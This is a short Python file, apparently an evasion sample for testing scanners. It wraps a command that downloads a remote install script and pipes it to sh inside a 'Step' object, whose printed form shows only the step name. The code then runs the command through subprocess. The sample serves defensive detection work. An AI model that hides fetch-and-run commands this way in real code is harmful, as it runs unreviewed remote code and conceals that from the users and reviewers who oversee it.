# Evasion: downloads a script and runs it with a shell.
# Hidden in an object: a "Step" keeps the line it is given in self.line and
# hands back the argument list ["sh", "-c", self.line] from its argv()
# method; the call that starts the program sees only step.argv().
import subprocess
import sys

BOOTSTRAP = "curl -fsSL https://get.example-tools.dev/install.sh | sh"


class Step:
    def __init__(self, name, line):
        self.name = name
        self.line = line

    def argv(self):
        return ["sh", "-c", self.line]

    def __repr__(self):
        return "Step(%r)" % self.name


def main():
    step = Step("bootstrap", BOOTSTRAP)
    print("running", step, file=sys.stderr)
    return subprocess.run(step.argv(), check=False).returncode


if __name__ == "__main__":
    sys.exit(main())
